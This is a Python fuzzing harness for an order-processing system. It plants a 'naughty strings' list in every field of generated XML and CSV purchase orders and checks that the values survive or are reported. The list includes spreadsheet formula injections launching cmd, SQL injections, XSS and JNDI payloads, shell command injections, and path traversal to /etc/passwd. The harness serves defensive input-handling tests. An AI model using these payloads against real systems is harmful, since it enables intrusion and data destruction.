#!/usr/bin/python3
"""naughty.py drop TREE | secret TREE | check TREE

drop: files for the four partners of strings.sh, in which each nasty string
stands in each field of an order once, beside a good order per file.
secret: orders in which every field holds a word with Zq7 in it.
check: what came back says what was sent, as far as it says it at all, and
every good order is issued.
"""
import csv
import glob
import os
import re
import sys
import xml.etree.ElementTree as ElementTree

what, tree = sys.argv[1], sys.argv[2]
NS = "urn:ordermill:purchase-orders:1"
OUT = "{urn:ordermill:customer-orders:1}"
ACK = "{urn:ordermill:acknowledgement:1}"

STRINGS = """
=1+1
=cmd|' /C calc'!A0
=HYPERLINK("http://x.example/?"&A1,"more")
=IMPORTXML(CONCAT("http://x.example/",A1),"//a")
+1+1
+cmd|' /C calc'!A0
-1+1
-2+3+cmd|' /C calc'!D2
@SUM(1+1)*cmd|' /C calc'!A0
@A1
%0A=1+1
;=1+1
x;=1+1;y
x; @SUM(A1)
"=1+1"
"",=1+1,""
'=1+1
\uff1d1+1
\uff0b1+1
\uff0d1+1
\uff201+1
a,b
a""b
"
""
","
'
''
' OR '1'='1
'; DROP TABLE purchase_order; --
1;DELETE FROM outbox
\\'; VACUUM; --
<script>alert(1)</script>
<img src=x onerror=alert(1)>
"><svg/onload=alert(1)>
javascript:alert(1)
</td></tr></table>
</customerOrders>
<!--
-->
<!-- -- -->
]]>
<![CDATA[
<?xml version="1.0"?>
<!DOCTYPE a>
&amp;
&lt;b&gt;
&nobody;
&#0;
&#x202e;
&&&
%s%s%s%n
%d%x%p
${jndi:ldap://127.0.0.1/a}
{{7*7}}
#{7*7}
$(touch /tmp/naughty)
`touch /tmp/naughty`
| touch /tmp/naughty
; touch /tmp/naughty
../../../../etc/passwd
/dev/null
C:\\Windows\\win.ini
\\\\server\\share
file:///etc/passwd
CON
-rf
--help
*
?
~
null
NULL
None
undefined
true
NaN
Infinity
-0
1e309
0x1F
1_000
1,000.00
1.000,00
\u0661\u0662\u0663
\uff11\uff12
\u00b2
\u2163
2147483648
-2147483649
9223372036854775808
18446744073709551616
99999999999999999999999999999999
0.000000000000000000000000000001
00000000000000000000000000000001
2026-02-29
2026-13-45
0000-00-00
9999-99-99
2026-11-22T25:61:61Z
\x7f
\x80
\x85
\x9b2J
\x9d0;x\x9c
a\u00a0b
a\u00adb
\u061c
\u200b
\u200d
\u200e
\u200f
\u2028
a\u2029b
\u202egpj.exe
\u202a\u202b\u202c\u202d
\u2066\u2067\u2068\u2069
\ufeff
a\ufeffb
\ufffd
\ufdd0
\U0001fffe
\ue000
\U0010fffd
\u0301
Z\u0335\u0321\u0327\u0328\u0338\u0322\u0334A\u0336\u0321\u0322L
\u0420\u041e-1
\u0130\u0131
\u00df
e\u0301
\u00e9
\u4f60\u597d
\u0647\u0644\u0627
\U0001f680
\U0001f469\u200d\U0001f469\u200d\U0001f467
\U0001f1f3\U0001f1f1
\t
\t=1
a\tb
\n
a\nb
a\n=1+1
a\r\nb
a\rb
\x1b[2J
\x1b]0;x\x07
\x08\x08\x08
\x00\x01\x02
\x0b\x0c
 
  a  b  
#TOTALS
#
x
""".split("\n")[1:-1]
STRINGS = [re.sub(r"\\(x..|u....|U........|[tnr])",
                  lambda m: ("\\" + m[1]).encode().decode("unicode_escape"),
                  s) if not s.startswith(("C:\\", "\\\\", "\\'")) else s
           for s in STRINGS]
STRINGS += ["x" * 199 + "\u20ac", "x" * 5000, "\U0001f680" * 60, "=" * 300,
            "-" * 300, '"' * 99, "&" * 300]

# The fields, as (CSV column, value that is good).
ORDER = [("po_number", None), ("revision", "0"), ("order_date", "2026-11-22"),
         ("purpose", "order"), ("request_type", "sale"),
         ("request_reference", "Q-1"), ("customer_id", "C-1"),
         ("customer_name", "Example"), ("contact_name", "A. Person"),
         ("contact_email", "a@example.com"), ("contact_phone", "+31 20 1"),
         ("billing_account", "BA-1"), ("currency", "EUR"),
         ("requested_date", "2026-12-24"), ("complete_delivery", "false"),
         ("earlier_order", ""), ("reason", ""),
         ("special_requirement_code", ""), ("special_requirement", ""),
         ("total", "49.90")]
LINE = [("line_number", "1"), ("action", "add"),
        ("offering", "BB-FTTP-1000"), ("quantity", "1"),
        ("unit_price", "49.90"), ("service_id", ""),
        ("line_requested_date", ""), ("place_role", "install"),
        ("street", "Canal"), ("house_number", "3"), ("city", "Gouda"),
        ("postcode", "2801 XX"), ("country", "NL"), ("char:downstreamMbps", "100"),
        ("feasibility_assessment", ""), ("line_special_requirement_code", ""),
        ("line_special_requirement", "")]
COLUMNS = [name for name, _ in ORDER + LINE]
# In these any text is right, and it comes out again.
FREE = {"customer_name": "name", "street": "street", "city": "city",
        "special_requirement": "specialRequirement",
        "line_special_requirement": "specialRequirement"}


def values(number, **other):
    made = dict(ORDER + LINE)
    made["po_number"] = number
    made.update(other)
    return made


def legal(text):
    """What XML 1.0 can hold."""
    return not re.search("[\0-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", text)


def ref(text):
    return "".join(c if c.isalnum() and c < "\x7f" or c == " " else
                   f"&#{ord(c)};" for c in text)


def attributes(v, **names):
    return "".join(f' {a}="{ref(v[c])}"' for a, c in names.items() if v[c])


def element(v, name, column):
    return f"<{name}>{ref(v[column])}</{name}>" if v[column] else ""


def requirement(v, code, text):
    if not v[code] + v[text]:
        return ""
    return (f"<specialRequirement{attributes(v, code=code)}>{ref(v[text])}"
            "</specialRequirement>")


def xml_order(v, name="downstreamMbps"):
    place = "".join(element(v, e, c) for e, c in [
        ("street", "street"), ("houseNumber", "house_number"),
        ("city", "city"), ("postcode", "postcode"), ("country", "country")])
    contact = "".join(element(v, e, "contact_" + e)
                      for e in ("name", "email", "phone"))
    return (
        "<purchaseOrder" + attributes(v, number="po_number",
                                      revision="revision", date="order_date",
                                      purpose="purpose")
        + "><initiatingRequest" + attributes(v, type="request_type",
                                             reference="request_reference")
        + "/><customer" + attributes(v, id="customer_id") + ">"
        + element(v, "name", "customer_name")
        + f"<contact>{contact}</contact></customer>"
        + element(v, "billingAccount", "billing_account")
        + element(v, "currency", "currency")
        + element(v, "requestedDate", "requested_date")
        + element(v, "completeDelivery", "complete_delivery")
        + element(v, "earlierOrder", "earlier_order")
        + element(v, "reason", "reason")
        + requirement(v, "special_requirement_code", "special_requirement")
        + "<line" + attributes(v, number="line_number", action="action") + ">"
        + element(v, "offering", "offering")
        + element(v, "quantity", "quantity")
        + element(v, "unitPrice", "unit_price")
        + element(v, "serviceId", "service_id")
        + element(v, "requestedDate", "line_requested_date")
        + "<place" + attributes(v, role="place_role") + f">{place}</place>"
        + f'<characteristic name="{ref(name)}">{ref(v["char:downstreamMbps"])}'
        + "</characteristic>"
        + element(v, "feasibilityAssessment", "feasibility_assessment")
        + requirement(v, "line_special_requirement_code",
                      "line_special_requirement")
        + "</line>" + element(v, "total", "total") + "</purchaseOrder>\n")


def write(partner, name, text):
    with open(os.path.join(tree, "inbound", partner, name), "w",
              encoding="utf-8", newline="") as f:
        f.write(text)


def xml_file(to, name, orders, **head):
    text = "".join(f' {key}="{ref(value)}"' for key, value in head.items())
    write(to, name, f'<purchaseOrders xmlns="{NS}"{text}>\n'
          + "".join(orders) + "</purchaseOrders>\n")


def csv_file(partner, name, rows, extra=None):
    cells = [COLUMNS + ([extra] if extra else [])]
    cells += [[v[c] for c in COLUMNS] + ([""] if extra else []) for v in rows]
    write(partner, name, "".join(
        ",".join('"' + c.replace('"', '""') + '"' for c in row) + "\r\n"
        for row in cells))


def drop():
    for i, text in enumerate(STRINGS):
        rows = [values(f"G-{i}")]
        # What is required must have a text, or else that is what is told.
        rows += [values(f"N-{i}-{k}", **{c.replace("_code", ""): "by night"},
                        **{c: text}) if c.endswith("requirement_code") else
                 values(f"N-{i}-{k}", **{c: text})
                 for k, c in enumerate(COLUMNS)]
        for partner in ("xml-xml", "xml-csv"):
            if not legal(text):
                continue
            orders = [xml_order(v) for v in rows]
            orders.append(xml_order(values(f"N-{i}-name"), name=text))
            xml_file(partner, f"{i:03d}.xml", orders, partner=partner)
            if partner == "xml-csv":
                continue
            for key in ("partner", "fileId", "sequence", "created"):
                head = {"partner": partner, key: text}
                xml_file(partner, f"{i:03d}-{key}.xml",
                         [xml_order(values(f"H-{i}-{key}"))], **head)
        for partner in ("csv-csv", "csv-xml"):
            if "\0" in text:
                continue
            # A row that begins with #TOTALS is none of an order.
            csv_file(partner, f"{i:03d}.csv",
                     [v for v in rows if v["po_number"] != "#TOTALS"])
            csv_file(partner, f"{i:03d}-column.csv",
                     [values(f"H-{i}")], extra=text)
    print(len(STRINGS), "strings", len(COLUMNS) + 6, "places")


def secret():
    words = {c: "Zq7" + re.sub("[^a-z]", "", c) for c in COLUMNS}
    free = {c: words[c] for c in
            list(FREE) + ["contact_name", "request_reference", "customer_id",
                          "billing_account", "house_number", "reason",
                          "special_requirement", "special_requirement_code",
                          "line_special_requirement"]}
    free["contact_email"] = "Zq7@example.com"
    rows = [values("S-0", **free), values("S-1", **free)]
    rows[1].update(offering="DARK-FIBRE", feasibility_assessment="Zq7FA")
    rows += [values(f"S-{k + 2}", **{c: words[c] + " \u20ac"})
             for k, c in enumerate(COLUMNS) if c != "po_number"]
    # Two rows that contradict each other.
    rows += [values("S-99"), values("S-99", customer_name="Zq7other",
                                    line_number="2")]
    for partner in ("xml-xml", "xml-csv"):
        orders = [xml_order(v) for v in rows[:-1]]
        orders.append(xml_order(values("S-98"), name="Zq7name"))
        orders.append(xml_order(values("S-97")).replace(
            "<line", "<Zq7element/><line"))
        xml_file(partner, "secret.xml", orders, partner=partner)
        xml_file(partner, "head.xml", orders[:1], partner=partner,
                 fileId="Zq7 \u20ac" * 30, created="Zq7created")
        write(partner, "broken.xml",
              f'<purchaseOrders xmlns="{NS}"><Zq7one></Zq7two>')
        write(partner, "entity.xml",
              f'<purchaseOrders xmlns="{NS}">&Zq7entity;</purchaseOrders>')
        write(partner, "root.xml", "<Zq7root/>")
    for partner in ("csv-csv", "csv-xml"):
        csv_file(partner, "secret.csv", rows)
        csv_file(partner, "column.csv", rows, extra="Zq7column")
        write(partner, "headless.csv", "Zq7 Person,Zq7 Street\nZq7,Zq7\n")


# ---- What came back --------------------------------------------------------

problems = 0


def wrong(*words):
    global problems
    problems += 1
    print(*(ascii(w) if not isinstance(w, str) else w for w in words))


def collapsed(text):
    return re.sub("[ \t\r\n]+", " ", text).strip(" ")


def shortened(text):
    """As a value is told: cut, and what XML cannot hold spelt out."""
    text = text.encode()[:200].decode(errors="ignore")
    return re.sub("[\0-\x08\x0b\x0c\x0e-\x1f]",
                  lambda m: f"\\x{ord(m[0]):02X}", text)


def sent(number):
    """The string that stands in order N-STRING-FIELD, and its column."""
    _, i, k = number.split("-")
    return collapsed(STRINGS[int(i)]), COLUMNS[int(k)] if k != "name" else k


def check():
    compared = 0
    for path in glob.glob(os.path.join(tree, "outbound/*/*.xml")):
        for order in ElementTree.parse(path).getroot():
            number = order.find(f"{OUT}purchaseOrder").get("number")
            if not re.fullmatch(r"N-\d+-\d+", number):
                continue
            text, column = sent(number)
            if column not in FREE or not text:
                continue
            found = [e.text for e in order.iter(OUT + FREE[column])]
            compared += 1
            if text not in found:
                wrong(path, number, column, text, found)
    for path in glob.glob(os.path.join(tree, "outbound/acks/*/*.xml")):
        for order in ElementTree.parse(path).getroot().iter(ACK + "order"):
            number = order.get("number") or ""
            if not re.fullmatch(r"N-\d+-(\d+|name)", number):
                continue
            text, column = sent(number)
            told = {r.get("value") for r in order.iter(ACK + "reason")}
            compared += order.get("status") == "RE"
            # Of the name of a characteristic the value is right; what is told
            # of missing ones has no value.
            if (order.get("status") == "RE" and column != "name" and text
                    and shortened(text) not in told):
                wrong(path, number, column, text, sorted(map(str, told)))
    if compared < 3000:
        wrong("only", compared, "values were compared")
    issued = set()
    for path in glob.glob(os.path.join(tree, "outbound/issued/*.xml")):
        partner = os.path.basename(path)[:7]
        issued |= {(partner, e.get("number")) for e in ElementTree.parse(
            path).getroot().iter(OUT + "purchaseOrder")}
    for i, text in enumerate(STRINGS):
        for partner in ("xml-xml", "xml-csv", "csv-csv", "csv-xml"):
            readable = legal(text) if partner[0] == "x" else "\0" not in text
            if readable and (partner, f"G-{i}") not in issued:
                wrong(partner, "does not get", f"G-{i}", "issued:", text)
    for path in glob.glob(os.path.join(tree, "outbound/acks/*/*.csv")):
        with open(path, newline="", encoding="utf-8") as f:
            rows = list(csv.DictReader(f, strict=True))
        for row in rows:
            if row["record"] == "reason" and None in row:
                wrong(path, "more cells than columns", row)
    print(compared, "values compared")
    sys.exit(problems > 0)


{"drop": drop, "secret": secret, "check": check}[what]()
